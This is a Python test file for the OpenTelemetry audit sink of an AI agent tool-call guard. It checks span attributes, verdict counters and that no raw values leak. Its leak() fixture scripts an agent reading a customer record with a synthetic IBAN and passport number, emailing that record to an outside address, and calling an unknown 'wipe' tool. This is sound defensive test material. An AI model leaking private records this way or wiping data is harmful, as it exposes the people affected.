"""OpenTelemetry audit sink: one GenAI execute_tool span and one verdict count per decision, no raw values."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("opentelemetry.sdk")

from opentelemetry.sdk.metrics import MeterProvider
from opentelemetry.sdk.metrics.export import InMemoryMetricReader
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
from opentelemetry.semconv._incubating.attributes import gen_ai_attributes as gen_ai

from guard import Guard, Reason, Verdict, load_policy
from guard.adapters.otel import OTelAuditSink, TeeSink
from guard.audit import MemoryAudit

ROOT = Path(__file__).resolve().parents[2]
POLICY = ROOT / "policies" / "examples" / "mail_agent.yaml"
RECORD = "Customer: Lena Novak\nIBAN: DE44500105175407324931\nPassport number: C7R4K91X2"
SECRETS = ("Lena Novak", "DE44500105175407324931", "C7R4K91X2", "compliance@audit-desk.net", "Record")


class Telemetry:
    """A tracer provider with an in-memory exporter and a meter provider with an in-memory reader."""

    def __init__(self) -> None:
        self.spans = InMemorySpanExporter()
        self.tracer_provider = TracerProvider()
        self.tracer_provider.add_span_processor(SimpleSpanProcessor(self.spans))
        self.reader = InMemoryMetricReader()
        self.meter_provider = MeterProvider(metric_readers=[self.reader])

    def sink(self) -> OTelAuditSink:
        return OTelAuditSink(load_policy(POLICY), self.tracer_provider, self.meter_provider)

    def counts(self) -> dict[tuple[str, str, str], int]:
        data = self.reader.get_metrics_data()
        out: dict[tuple[str, str, str], int] = {}
        for resource in data.resource_metrics if data else ():
            for scope in resource.scope_metrics:
                for metric in scope.metrics:
                    if metric.name != "carbguard.decisions":
                        continue
                    for point in metric.data.data_points:
                        a = point.attributes or {}
                        key = (str(a["carbguard.verdict"]), str(a["carbguard.reason"]), str(a["gen_ai.tool.name"]))
                        out[key] = out.get(key, 0) + int(point.value)
        return out


@pytest.fixture
def telemetry() -> Telemetry:
    return Telemetry()


def leak(guard: Guard) -> list[Any]:
    """read_record → exfiltrating send_email → a tool the policy does not know."""
    session = guard.session("run-7")
    session.observe_user("Read the record of Lena Novak.")
    first = session.decide("read_record", {"name": "Lena Novak"}, "c1")
    session.observe_result("c1", RECORD)
    send = session.decide("send_email", {"to": "compliance@audit-desk.net", "subject": "Record", "body": RECORD}, "c2")
    unknown = session.decide("wipe_Lena_Novak", {"target": "DE44500105175407324931"}, "c3")
    return [first, send, unknown]


def test_each_decision_is_a_genai_execute_tool_span(telemetry: Telemetry) -> None:
    """One span per decision, named and attributed per the GenAI conventions, with the guard's verdict fields."""
    memory = MemoryAudit()
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=TeeSink(memory, telemetry.sink()), artifact_id="art-1")
    decisions = leak(guard)
    spans = telemetry.spans.get_finished_spans()
    assert [s.name for s in spans][:2] == ["execute_tool read_record", "execute_tool send_email"]
    assert len(spans) == len(decisions) == len(memory.entries) == 3
    for span, decision, entry in zip(spans, decisions, memory.entries, strict=True):
        a = span.attributes or {}
        assert a[gen_ai.GEN_AI_OPERATION_NAME] == gen_ai.GenAiOperationNameValues.EXECUTE_TOOL.value
        assert a[gen_ai.GEN_AI_TOOL_NAME] == (
            entry["tool"]
            if decision.reason is not Reason.UNKNOWN_TOOL
            else "sha256:" + hashlib.sha256(entry["tool"].encode()).hexdigest()[:32]
        )
        assert a[gen_ai.GEN_AI_TOOL_CALL_ID] == decision.call_id
        assert a[gen_ai.GEN_AI_CONVERSATION_ID] == "run-7"
        assert a["carbguard.verdict"] == decision.verdict.value and a["carbguard.reason"] == decision.reason.value
        assert a.get("carbguard.threshold") == decision.threshold and a["carbguard.artifact_id"] == "art-1"
        assert a.get("carbguard.score") == decision.score
        assert span.start_time is not None and span.end_time is not None and span.start_time <= span.end_time
    send = spans[1].attributes or {}
    assert send["carbguard.verdict"] == "escalate" and send["carbguard.score"] == 0.9  # + unrequested_action
    fired = list(send["carbguard.features"])
    assert fired == sorted(fired)
    assert {"irreversible_sink", "private_in_context", "provenance_path", "unrequested_action"} <= set(fired)
    assert decisions[2].reason is Reason.UNKNOWN_TOOL


def test_no_raw_values_leave(telemetry: Telemetry) -> None:
    """No argument value, record text or unknown tool name appears in any span or metric attribute."""
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=telemetry.sink())
    leak(guard)
    exported = [dict(s.attributes or {}) for s in telemetry.spans.get_finished_spans()]
    exported.append({"metrics": telemetry.reader.get_metrics_data().to_json()})
    text = json.dumps(exported, default=str)
    assert [s for s in SECRETS if s in text] == []
    assert "wipe_Lena_Novak" not in text and "sha256:" in text  # the unknown tool's name is hashed


def test_verdict_counter(telemetry: Telemetry) -> None:
    """The counter carbguard.decisions adds one per decision, by verdict, reason and tool."""
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=telemetry.sink())
    leak(guard)
    leak(guard.__class__(guard.policy, threshold=0.5, audit=telemetry.sink()))
    counts = telemetry.counts()
    assert counts[("execute", "under_threshold", "read_record")] == 2
    assert counts[("escalate", "risk_budget", "send_email")] == 2
    assert counts[("escalate", "unknown_tool", "<unknown>")] == 2
    assert sum(counts.values()) == 6


def test_decision_span_is_a_child_of_the_current_span(telemetry: Telemetry) -> None:
    """Made inside an application span (e.g. an agent run), the decision span is its child."""
    guard = Guard(load_policy(POLICY), threshold=0.5, audit=telemetry.sink())
    tracer = telemetry.tracer_provider.get_tracer("app")
    with tracer.start_as_current_span("agent run") as parent:
        guard.session("s").decide("read_record", {"name": "x"}, "c1")
    decision_span = next(s for s in telemetry.spans.get_finished_spans() if s.name.startswith("execute_tool"))
    assert decision_span.parent is not None
    assert decision_span.parent.span_id == parent.get_span_context().span_id


class Broken:
    def write(self, entry: Mapping[str, Any]) -> None:
        raise OSError("disk full")


def test_tee_writes_every_sink_and_a_failure_fails_closed(telemetry: Telemetry) -> None:
    """The tee feeds each sink; when one raises, the decision is an internal-error refusal (nothing runs)."""
    memory = MemoryAudit()
    ok = Guard(load_policy(POLICY), threshold=0.5, audit=TeeSink(memory, telemetry.sink()))
    assert ok.session("s").decide("read_record", {"name": "x"}, "c1").verdict is Verdict.EXECUTE
    assert len(memory.entries) == 1 and len(telemetry.spans.get_finished_spans()) == 1
    broken = Guard(load_policy(POLICY), threshold=0.5, audit=TeeSink(MemoryAudit(), Broken()))
    decision = broken.session("s").decide("read_record", {"name": "x"}, "c1")
    assert not decision.allowed and decision.reason is Reason.INTERNAL_ERROR
    with pytest.raises(ValueError, match="at least one"):
        TeeSink()


def test_core_never_imports_opentelemetry() -> None:
    """A decision without the sink loads no OpenTelemetry module (off unless configured)."""
    code = (
        "import sys, guard\n"
        f"g = guard.Guard(guard.load_policy({str(POLICY)!r}), threshold=0.5, audit=None)\n"
        "g.session('s').decide('read_record', {'name': 'x'}, 'c1')\n"
        "print(sorted(m for m in sys.modules if m.startswith('opentelemetry')))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
